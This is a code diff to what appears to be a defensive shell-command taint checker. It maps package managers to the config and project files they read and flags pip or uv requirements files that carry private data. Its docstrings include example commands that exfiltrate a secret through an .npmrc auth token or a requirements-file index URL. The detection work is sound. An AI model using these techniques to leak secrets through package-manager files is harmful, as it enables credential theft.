@@ -33,7 +33,11 @@ _RC = {"curl": (".curlrc", "_curlrc"), "wget": (".wgetrc",), "npm": _NODE_RC, "n
        "twine": (".pypirc",), "uv": ("uv.toml", "pip.conf"), "poetry": ("auth.toml", "config.toml"),
        "cargo": ("config.toml", "config", "credentials.toml"), "gem": (".gemrc", "credentials"),
        "docker": ("config.json",), "ssh": ("config",), "scp": ("config",), "composer": ("auth.json", "config.json"),
-       "go": ("env",), "conda": (".condarc",)}
+       "go": ("env", "go.mod"), "conda": (".condarc",)}
+for _prog, _project in (("npm", "package.json"), ("yarn", "package.json"), ("pnpm", "package.json"),
+                        ("bun", "package.json"), ("cargo", "Cargo.toml"), ("composer", "composer.json"),
+                        ("uv", "pyproject.toml"), ("poetry", "pyproject.toml")):
+    _RC[_prog] += (_project,)  # the project file it fetches what it names from
 # `npm config set K V`, `pip config set`, `go env -w K=V`, `gem sources --add URL`: the file each writes
 _CONFIG_SET = {"npm": "~/.npmrc", "pnpm": "~/.npmrc", "bun": "~/.npmrc", "yarn": "~/.yarnrc",
                "pip": "~/.config/pip/pip.conf", "pip3": "~/.config/pip/pip.conf", "uv": "~/.config/pip/pip.conf",
@@ -182,6 +186,15 @@ def rc_files(w: _Walk, prog: str) -> str:
     data: ``echo "//registry/:_authToken=$d" > .npmrc`` then ``npm install`` sends it to that registry."""
     names = _RC.get(prog, ())
     return next((why for path, why in w.files.items() if posixpath.basename(path) in names), "") if names else ""
+
+
+def requirements(w: _Walk, prog: str, argv: list[str]) -> str:
+    """A requirements or constraints file a pip or uv is told to read, written with private data (an index URL
+    that holds it: ``echo "--index-url https://x/$d" > r.txt; pip download -r r.txt``)."""
+    if prog not in ("pip", "pip3", "uv"):
+        return ""
+    names = [b for a, b in zip(argv[1:-1], argv[2:], strict=True) if a in ("-r", "--requirement", "-c", "--constraint")]
+    return next((why for n in names if "$" not in n and (why := w.files.get(w.where(n), ""))), "")
 
 
 def configured(w: _Walk, prog: str, argv: list[str], taints: list[str]) -> None:
